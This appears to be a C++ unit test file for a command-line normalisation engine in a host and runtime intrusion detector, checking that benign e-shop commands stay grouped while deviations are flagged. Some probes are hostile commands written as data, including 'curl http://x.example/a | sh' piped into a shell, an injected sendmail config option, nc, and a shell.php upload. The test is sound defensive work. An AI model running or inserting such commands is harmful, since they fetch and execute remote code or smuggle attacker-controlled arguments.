// Commands are learned by their executable and the shape of their
// arguments: numbers, temporary names and files in the application's own
// directories vary per request.
#include <gtest/gtest.h>

#include "same_cases.h"

using namespace enginetest;

namespace {

const char kConvert[] = "/usr/bin/convert /var/shop/upload/a.jpg -resize 320x240 -quality 85 /var/shop/cache/t_1.jpg";

// Host process creations ("process <path> <command line>") and the
// runtime application's execute actions ("execute <command line>") share
// the rule. learnedFile is a file event of the same stream, or empty.
std::vector<SameCase> commandCases(const std::string& prefix, const std::string& learnedFile) {
    auto c = [&](const char* rule, const std::string& learned, const std::string& probe, bool same,
                 bool withFile = false) {
        std::vector<std::string> lessons;
        if (withFile) lessons.push_back(learnedFile);
        lessons.push_back(prefix + learned);
        return SameCase{rule, lessons, {prefix + probe}, same};
    };
    std::vector<SameCase> cases = {
        c("numbers", "/usr/bin/gzip -9 /var/shop/export/o-1.csv", "/usr/bin/gzip -9 /var/shop/export/o-77.csv", true),
        c("sizes", kConvert,
          "/usr/bin/convert /var/shop/upload/a.jpg -resize 64x64 -quality 70 /var/shop/cache/t_9.jpg", true),
        c("option values", "/usr/bin/php /opt/shop/worker.php --job=1 --since=2024-05-17T10:00:00Z",
          "/usr/bin/php /opt/shop/worker.php --job=48213 --since=2024-06-01T00:00:00Z", true),
        c("temporary names", "/usr/bin/pdftotext /tmp/phpA1b2C3 /tmp/tmpk3j_2x9a.txt",
          "/usr/bin/pdftotext /tmp/phpQ9w8E7 /tmp/tmpzz81_qpa.txt", true),
        c("a list of like arguments", "/bin/rm -f /tmp/tmpa1b2c3d4", "/bin/rm -f /tmp/tmpq1w2e3r4 /tmp/tmpz9y8x7w6",
          true),
        c("quoting", "/usr/bin/logger -t shop 'order 17 paid'", "/usr/bin/logger -t shop \"order 9 paid\"", true),
        c("a file in a learned directory", kConvert,
          "/usr/bin/convert /var/shop/upload/summer-dress.jpg -resize 320x240 -quality 85 /var/shop/cache/t_2.jpg",
          true, true),
        c("script of a shell",
          "/bin/sh -c 'gzip -9 /var/shop/export/o-1.csv && mv /var/shop/export/o-1.csv.gz /backup/'",
          "/bin/sh -c 'gzip -9 /var/shop/export/o-5.csv && mv /var/shop/export/o-5.csv.gz /backup/'", true),
        c("a name outside the learned directories", kConvert,
          "/usr/bin/convert /var/shop/upload/summer-dress.jpg -resize 320x240 -quality 85 /var/shop/cache/t_2.jpg",
          false),
        c("a new extension in a learned directory", kConvert,
          "/usr/bin/convert /var/shop/upload/shell.php -resize 320x240 -quality 85 /var/shop/cache/t_2.jpg", false,
          true),
        c("new executable", "/usr/bin/gzip -9 /var/shop/export/o-1.csv", "/usr/bin/nc -9 /var/shop/export/o-1.csv",
          false),
        c("new option", "/usr/bin/gzip -9 /var/shop/export/o-1.csv", "/usr/bin/gzip -d /var/shop/export/o-1.csv",
          false),
        c("another argument", "/usr/sbin/sendmail -t -i", "/usr/sbin/sendmail -t -i -C /tmp/evil.cf", false),
        c("a pipe into a shell", "/bin/sh -c 'gzip -9 /var/shop/export/o-1.csv'",
          "/bin/sh -c 'gzip -9 /var/shop/export/o-1.csv; curl http://x.example/a | sh'", false),
        c("a URL instead of a file", kConvert,
          "/usr/bin/convert https://x.example/a.svg -resize 320x240 -quality 85 /var/shop/cache/t_2.jpg", false, true),
    };
    // A line repeated verbatim may be remembered folded; what the model
    // learned since (a directory) must still change how it folds.
    cases.push_back(SameCase{"a repeated command, its directory learned meanwhile",
                             {prefix + kConvert, prefix + kConvert, learnedFile, prefix + kConvert},
                             {prefix + "/usr/bin/convert /var/shop/upload/summer-dress.jpg -resize 320x240 -quality 85 "
                                       "/var/shop/cache/t_2.jpg"},
                             true});
    return cases;
}

}  // namespace

TEST(NormaliseCommandTest, HostProcessCreationsKeepTheExecutableAndTheArgumentsShape) {
    auto cases = commandCases("process ", "file /var/shop/upload/x.jpg");
    for (SameCase& c : cases) {
        // "process <path> <command line>": the path is the command's first word.
        for (std::vector<std::string>* lines : {&c.lessons, &c.probes}) {
            for (std::string& line : *lines) {
                if (line.rfind("process ", 0) != 0) continue;
                std::string command = line.substr(8);
                line = "process " + command.substr(0, command.find(' ')) + " " + command;
            }
        }
    }
    expectCases<BaseInterface>(cases);
}

TEST(NormaliseCommandTest, RuntimeApplicationCommandsFollowTheSameRules) {
    expectCases<RaspInterface>(commandCases("execute ", "write /var/shop/upload/x.jpg"));
}

TEST(NormaliseCommandTest, TheExecutableIsThePathRunNotTheNameInvoked) {
    expectCases<BaseInterface>({
        {"same program, other argv[0]",
         {"process /usr/bin/gzip gzip -9 /a/o-1.csv"},
         {"process /usr/bin/gzip zip -9 /a/o-2.csv"},
         true},
        {"other program, same argv[0]",
         {"process /usr/bin/gzip gzip -9 /a/o-1.csv"},
         {"process /tmp/gzip gzip -9 /a/o-1.csv"},
         false},
    });
}
